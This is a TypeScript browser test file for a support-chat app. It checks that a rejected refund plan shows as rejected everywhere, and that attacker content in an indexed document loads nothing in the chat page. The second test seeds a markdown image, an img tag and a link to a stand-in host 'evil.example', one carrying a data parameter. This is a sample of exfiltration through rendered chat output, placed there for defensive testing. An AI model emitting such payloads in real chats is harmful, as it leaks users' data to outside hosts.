import assert from 'node:assert/strict'
import { test } from 'node:test'
import { HttpAgent } from '@ag-ui/client'
import { deep } from '../../../helpers/depth.ts'
import { browserSuite } from '../../../helpers/browser.ts'
import { runParley } from '../../cli/run-parley.ts'
import { consoleServer } from '../console/console-server.ts'
import { openChat } from './chat-page.ts'

// Who says this may mean it: they are asked.
const DOUBTFUL = 'It never worked at home. Refund order A12'

browserSuite('a chat’s page, and what is elsewhere', (browser) => {
  const server = consoleServer()

  test('a plan that began in the page is turned down in a front end elsewhere: its card says so by itself, and the terminal too', async (t) => {
    const { parley, shop } = server
    const maya = parley.as('customer')
    const { page, card, say } = await openChat(t, browser, { url: parley.url })
    await say(DOUBTFUL)
    await page.locator('.plan:not([data-inert]) [data-act=approve]').waitFor({ timeout: 60_000 })
    const [plan] = await maya.waitingPlans()
    assert.ok(plan?.digest)
    const headers = { authorization: `Bearer ${maya.key}` }
    const elsewhere = new HttpAgent({ url: `${parley.url}/v1/ag-ui/support`, headers })
    const no = { status: 'resolved', payload: { decision: 'reject' } } as const
    await elsewhere.runAgent({ resume: [{ interruptId: `${plan.id} ${plan.digest}`, ...no }] })
    await card('rejected').waitFor()
    assert.match(await card('rejected').innerText(), /You said no/)
    assert.equal(await page.locator('.plan:not([data-inert]) [data-act=approve]').count(), 0)
    const late = ['decide', plan.id, '--yes', '--digest', plan.digest, '--as', 'customer']
    const { err } = await runParley(late, { dataDir: parley.place.dataDir, env: { PARLEY_URL: parley.url } })
    assert.match(err, /Maya Lindqvist said no before you/)
    assert.equal((await shop.book()).refunds.length, 0)
  })

  deep('38: a picture, a tag and a link in a document load nothing in a chat’s page', async (t) => {
    const { parley } = server
    const out = 'https://evil.example'
    const text = `The wallaby desk is open on Fridays ![p](${out}/1?d=S) <img src="${out}/2"> and [here](${out}/3).`
    const document = { title: 'Wallabies', source: 'attacks/wallabies', acl: ['public'], text }
    assert.equal((await parley.as('operator').request('POST', '/v1/documents', document)).status, 202)
    const { page, log, say } = await openChat(t, browser, { url: parley.url })
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await say('When is the wallaby desk open?')
    await log.getByText('wallaby desk is open on Fridays').first().waitFor({ timeout: 60_000 })
    const { host } = new URL(parley.url)
    assert.deepEqual(
      asked.filter((url) => new URL(url).host !== host),
      [],
    )
    assert.equal(await log.locator(`img, iframe, a[href^="${out}"]`).count(), 0)
  })
})
